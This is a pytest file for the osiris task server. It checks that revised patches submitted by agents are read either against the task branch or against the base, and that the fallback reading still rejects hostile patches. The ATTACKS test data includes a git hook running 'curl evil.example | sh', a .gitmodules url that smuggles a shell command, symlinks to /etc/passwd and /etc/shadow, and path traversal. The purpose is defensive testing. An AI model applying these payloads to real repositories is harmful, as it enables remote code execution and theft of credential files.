"""Later versions through the official MCP client: a patch after a review round may be a diff against
the task branch or the whole change against the base (where the branch starts); both give the same
commit tree on the local git host and on GitHub, the files changed against the base are exactly what
will be merged, a patch that fits neither is refused with nothing stored, and the fallback reading
runs every safety check the first one does. The `work_on_task` prompt says so."""

from __future__ import annotations

import secrets
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
from pydantic import SecretStr

from osiris.github_bridge.github_client import GitHub
from osiris.github_bridge.github_host import GitHubHost
from tests.support.bare_repos import V1, files_at, git, seed
from tests.support.fake_github import FakeGitHub
from tests.support.github_harness import BASE_FILES, REPO, SECRET
from tests.support.jobs import drain
from tests.support.servers import LiveServer, mcp_over_http

from .mcp_helpers import error_code, ok, token_of

# Version 1 (bare_repos.V1) changes two files; the review asks for a capitalised greeting and
# util.py left alone.

# Version 2 as a diff against osiris/task-N (version 1 is there): only what changed since.
V2_ON_BRANCH = """diff --git a/src/app.py b/src/app.py
--- a/src/app.py
+++ b/src/app.py
@@ -1,5 +1,5 @@
 def greet(name):
-    return f'hello {name}'
+    return f'Hello, {name}!'
 
 
 def main():
diff --git a/src/util.py b/src/util.py
--- a/src/util.py
+++ b/src/util.py
@@ -1 +1 @@
-X = 2
+X = 1
diff --git a/src/new.py b/src/new.py
new file mode 100644
--- /dev/null
+++ b/src/new.py
@@ -0,0 +1 @@
+NEW = True
"""

# The same version 2 as agents naturally write it after a review round: `git diff main`, the whole
# change against the base. It touches the line version 1 changed, and leaves util.py out (back to
# the base). It does not apply to the task branch.
V2_ON_BASE = """diff --git a/src/app.py b/src/app.py
index 6bf8a4f..0d5b5a1 100644
--- a/src/app.py
+++ b/src/app.py
@@ -1,5 +1,5 @@
 def greet(name):
-    return 'hello ' + name
+    return f'Hello, {name}!'
 
 
 def main():
diff --git a/src/new.py b/src/new.py
new file mode 100644
--- /dev/null
+++ b/src/new.py
@@ -0,0 +1 @@
+NEW = True
"""

# What either form leaves on the branch: the base, a capitalised greeting and a new module.
FINAL = {
    **BASE_FILES,
    "src/app.py": BASE_FILES["src/app.py"].replace("'hello ' + name", "f'Hello, {name}!'"),
    "src/new.py": "NEW = True\n",
}

# Applies to neither: its context is in no version of the file.
V2_NOWHERE = """diff --git a/src/app.py b/src/app.py
--- a/src/app.py
+++ b/src/app.py
@@ -1,5 +1,5 @@
 def greet(name):
-    return 'good day ' + name
+    return 'Good day, ' + name
 
 
 def main():
"""


def tree_of(files: dict[str, str], where: Path) -> str:
    """The git tree of exactly these regular files (in a throw-away repository)."""
    seed(where, files)
    return git(where, "rev-parse", "main^{tree}").strip()


async def request_changes(rest: httpx.AsyncClient, headers: dict, task_id: int) -> None:
    r = await rest.post(
        f"/api/v1/tasks/{task_id}/request-changes",
        json={"feedback": "Capitalise the greeting, leave util.py alone, add src/new.py."},
        headers=headers,
    )
    assert r.status_code == 200 and r.json()["status"] == "IN_PROGRESS", r.text


async def changed_files(rest: httpx.AsyncClient, headers: dict, task_id: int) -> dict[str, list[str]]:
    """The reviewer's "files changed against the base": each file's status and its added and removed
    lines, as `GET …/changes` gives them."""
    r = await rest.get(f"/api/v1/tasks/{task_id}/changes", headers=headers)
    assert r.status_code == 200, r.text
    out = {}
    for f in r.json()["files"]:
        lines = [
            ("+" if ln["kind"] == "added" else "-") + ln["text"]
            for h in f["hunks"]
            for ln in h["lines"]
            if ln["kind"] in ("added", "removed")
        ]
        out[f"{f['status']} {f['path']}"] = lines
    return out


EXPECTED_CHANGES = {
    "modified src/app.py": ["-    return 'hello ' + name", "+    return f'Hello, {name}!'"],
    "added src/new.py": ["+NEW = True"],
}


# --- the local git host (the live server's default) ------------------------------------------------


def local_repo(server: LiveServer, *, symlinks: dict[str, str] | None = None) -> tuple[str, Path]:
    """A repository of the server's local git host whose base holds GitHub's fake's files."""
    name = f"t-{secrets.token_hex(4)}"
    path = server.runtime.services.code_host.repo_path(name)
    path.parent.mkdir(parents=True, exist_ok=True)
    seed(path, BASE_FILES, symlinks=symlinks)
    return name, path


async def _task_at_version_1(client, rest, reviewer, repo: str, runtime) -> int:
    r = await rest.post(
        "/api/v1/tasks", json={"title": "Greet", "description": "nicely", "repo": repo}, headers=reviewer
    )
    assert r.status_code == 201, r.text
    task_id = r.json()["id"]
    ok(await client.call_tool("claim_task", {"task_id": task_id}))
    v1 = ok(await client.call_tool("submit_artifact", {"task_id": task_id, "content": V1, "summary": "v1"}))
    assert v1["version"] == 1
    await drain(runtime)
    await request_changes(rest, reviewer, task_id)
    return task_id


async def test_version_2_as_a_diff_against_the_branch_or_the_base_gives_one_tree(
    http_mcp, factory, rest, live_server, tmp_path
):
    name, repo = local_repo(live_server)
    _, reviewer = await factory.member("reviewer")
    _, agent = await factory.member("agent")
    trees = {}
    async with http_mcp(token_of(agent)) as client:
        for form, patch in (("branch", V2_ON_BRANCH), ("base", V2_ON_BASE)):
            task_id = await _task_at_version_1(client, rest, reviewer, name, factory.runtime)
            branch = f"osiris/task-{task_id}"
            head1 = git(repo, "rev-parse", branch).strip()
            v2 = ok(await client.call_tool("submit_artifact", {"task_id": task_id, "content": patch}))
            assert v2["version"] == 2 and v2["status"] == "REVIEW", form
            await drain(factory.runtime)
            # One commit on top of version 1 either way: the branch history stays linear.
            assert git(repo, "rev-parse", f"{branch}^").strip() == head1, form
            assert files_at(repo, branch) == FINAL, form
            # The reviewer sees exactly what will be merged, and for the base form what was sent.
            assert await changed_files(rest, reviewer, task_id) == EXPECTED_CHANGES, form
            trees[form] = git(repo, "rev-parse", f"{branch}^{{tree}}").strip()
    # The very tree GitHub gets from the same two patches (below).
    assert trees["branch"] == trees["base"] == tree_of(FINAL, tmp_path / "final.git")


async def test_version_2_that_applies_nowhere_is_refused_with_nothing_stored(
    connect, factory, rest, live_server
):
    name, repo = local_repo(live_server)
    _, reviewer = await factory.member("reviewer")
    _, agent = await factory.member("agent")
    async with connect(token_of(agent)) as client:
        task_id = await _task_at_version_1(client, rest, reviewer, name, factory.runtime)
        branch = f"osiris/task-{task_id}"
        head1 = git(repo, "rev-parse", branch).strip()
        result = await client.call_tool("submit_artifact", {"task_id": task_id, "content": V2_NOWHERE})
        assert error_code(result) == "patch_does_not_apply"
        message = result.structured_content["error"]["message"]
        # Both readings were tried, and the answer names each.
        assert f"the task branch, {branch} at {head1[:12]}" in message, message
        assert "as a diff against the base, main at " in message and f"(where {branch} starts)" in message
        task = ok(await client.call_tool("get_task", {"task_id": task_id}))
        assert task["task"]["status"] == "IN_PROGRESS" and [a["version"] for a in task["artifacts"]] == [1]
    assert git(repo, "rev-parse", branch).strip() == head1


# Base-relative (they touch the line version 1 changed, so only the fallback reading applies), each
# trying to get something past the checks that reading must run too.
ON_BASE_APP = """diff --git a/src/app.py b/src/app.py
--- a/src/app.py
+++ b/src/app.py
@@ -1,5 +1,5 @@
 def greet(name):
-    return 'hello ' + name
+    return 'pwned ' + name
 
 
 def main():
"""
ATTACKS = {
    "a symlink retargeted out of the tree": ON_BASE_APP
    + """diff --git a/docs/readme b/docs/readme
--- a/docs/readme
+++ b/docs/readme
@@ -1 +1 @@
-../README.md
\\ No newline at end of file
+../../../../etc/passwd
\\ No newline at end of file
""",
    "a .gitmodules with a command for a url": ON_BASE_APP
    + """diff --git a/.gitmodules b/.gitmodules
new file mode 100644
--- /dev/null
+++ b/.gitmodules
@@ -0,0 +1,3 @@
+[submodule "x"]
+\tpath = x
+\turl = ext::sh -c touch% /tmp/pwned
""",
    "a file re-added into .git": ON_BASE_APP
    + """diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout
new file mode 100755
--- /dev/null
+++ b/.git/hooks/post-checkout
@@ -0,0 +1,2 @@
+#!/bin/sh
+curl evil.example | sh
""",
    "a file outside the repository": ON_BASE_APP
    + """diff --git a/../outside.txt b/../outside.txt
new file mode 100644
--- /dev/null
+++ b/../outside.txt
@@ -0,0 +1 @@
+escaped
""",
    "a symlink added pointing outside": ON_BASE_APP
    + """diff --git a/src/link b/src/link
new file mode 120000
--- /dev/null
+++ b/src/link
@@ -0,0 +1 @@
+/etc/shadow
\\ No newline at end of file
""",
}


async def test_the_base_reading_refuses_what_the_branch_reading_would(
    http_mcp, factory, rest, live_server, settings
):
    name, repo = local_repo(live_server, symlinks={"docs/readme": "../README.md"})
    _, reviewer = await factory.member("reviewer")
    _, agent = await factory.member("agent")
    async with http_mcp(token_of(agent)) as client:
        task_id = await _task_at_version_1(client, rest, reviewer, name, factory.runtime)
        branch = f"osiris/task-{task_id}"
        head1 = git(repo, "rev-parse", branch).strip()
        for why, patch in ATTACKS.items():
            result = await client.call_tool("submit_artifact", {"task_id": task_id, "content": patch})
            assert error_code(result) == "invalid_artifact", (why, result.content)
        huge = ON_BASE_APP + "".join(
            f"diff --git a/f{i}.txt b/f{i}.txt\nnew file mode 100644\n--- /dev/null\n+++ b/f{i}.txt\n"
            f"@@ -0,0 +1 @@\n+{'x' * 4000}\n"
            for i in range(settings.tasks.max_artifact_bytes // 4000 + 1)
        )
        assert (
            error_code(await client.call_tool("submit_artifact", {"task_id": task_id, "content": huge}))
            == "too_large"
        )
        task = ok(await client.call_tool("get_task", {"task_id": task_id}))
        assert task["task"]["status"] == "IN_PROGRESS" and [a["version"] for a in task["artifacts"]] == [1]
        # The same base-relative change without the attack is taken: the refusals were the attacks'.
        v2 = ok(await client.call_tool("submit_artifact", {"task_id": task_id, "content": ON_BASE_APP}))
        assert v2["version"] == 2
    assert git(repo, "rev-parse", branch).strip() == head1  # nothing moved the branch
    assert sorted(git(repo, "for-each-ref", "--format=%(refname)").split()) == [
        "refs/heads/main",
        f"refs/heads/{branch}",
    ]


async def test_the_prompt_says_what_later_versions_may_be(http_mcp, factory):
    _, agent = await factory.member("agent")
    async with http_mcp(token_of(agent)) as client:
        prompt = await client.get_prompt("work_on_task", {"task_id": "7"})
    text = " ".join(" ".join(m.content.text for m in prompt.messages).split())
    assert "diff against the task branch (fetch osiris/task-<id>" in text
    assert "or the whole change against the base, from the commit the task branch starts at" in text
    assert "tries the task branch first, then the base" in text
    assert "A patch that applies to both is read as a diff against the task branch" in text
    assert "patch_does_not_apply (it applies neither to osiris/task-<id> nor to the base commit" in text
    assert "rebase" not in text


# --- GitHub (the fake), through a server of its own ------------------------------------------------


@pytest.fixture
async def github_server(settings, database_url, tmp_path) -> AsyncIterator[tuple[LiveServer, FakeGitHub]]:
    fake = FakeGitHub(tmp_path, secret=SECRET)
    fake.create_repo(REPO, BASE_FILES)
    server = LiveServer(
        settings,
        github={
            "token": SecretStr("osiris-token"),
            "webhook_secret": SecretStr(SECRET),
            "api_url": "https://api.github.test",
            "repo": {settings.repos.default_repo: REPO},
            "retry_seconds": 1.0,
        },
    )
    server.start()
    http = httpx.AsyncClient(transport=fake.transport(), timeout=5)
    host = GitHubHost(server.settings, server.runtime.sessions, gh=GitHub(server.settings, client=http))
    server.runtime.services.code_host = host  # the server's own talks to api.github.test
    try:
        yield server, fake
    finally:
        server.stop()
        await http.aclose()
    assert fake.violations == [], "\n".join(fake.violations[:20])


async def test_on_github_both_forms_give_the_same_tree(github_server, factory, tmp_path):
    server, fake = github_server
    _, reviewer = await factory.member("reviewer")
    _, agent = await factory.member("agent")
    trees = {}
    async with (
        httpx.AsyncClient(base_url=server.url, timeout=30) as rest,
        mcp_over_http(server.url, token_of(agent)) as client,
    ):

        async def drain_there() -> None:
            await server.run(drain(server.runtime))

        for form, patch in (("branch", V2_ON_BRANCH), ("base", V2_ON_BASE)):
            r = await rest.post(
                "/api/v1/tasks", json={"title": "Greet", "description": "nicely"}, headers=reviewer
            )
            assert r.status_code == 201, r.text
            task_id = r.json()["id"]
            branch = f"osiris/task-{task_id}"
            ok(await client.call_tool("claim_task", {"task_id": task_id}))
            ok(await client.call_tool("submit_artifact", {"task_id": task_id, "content": V1}))
            await drain_there()
            head1 = fake.repos[REPO].rev(f"refs/heads/{branch}")
            await request_changes(rest, reviewer, task_id)
            v2 = ok(await client.call_tool("submit_artifact", {"task_id": task_id, "content": patch}))
            assert v2["version"] == 2, form
            await drain_there()
            assert files_at(fake.repos[REPO].path, f"refs/heads/{branch}") == FINAL, form
            assert git(fake.repos[REPO].path, "rev-parse", f"refs/heads/{branch}^").strip() == head1, form
            assert await changed_files(rest, reviewer, task_id) == EXPECTED_CHANGES, form
            trees[form] = git(fake.repos[REPO].path, "rev-parse", f"refs/heads/{branch}^{{tree}}").strip()
        await request_changes(rest, reviewer, task_id)
        head2 = fake.repos[REPO].rev(f"refs/heads/{branch}")
        result = await client.call_tool("submit_artifact", {"task_id": task_id, "content": V2_NOWHERE})
        assert error_code(result) == "patch_does_not_apply"
        assert f"(where {branch} starts)" in result.structured_content["error"]["message"]
        task = ok(await client.call_tool("get_task", {"task_id": task_id}))
        assert [a["version"] for a in task["artifacts"]] == [1, 2]
        await drain_there()
        assert fake.repos[REPO].rev(f"refs/heads/{branch}") == head2
    # The tree the local git host builds from the same patches (above).
    assert trees["branch"] == trees["base"] == tree_of(FINAL, tmp_path / "final.git")
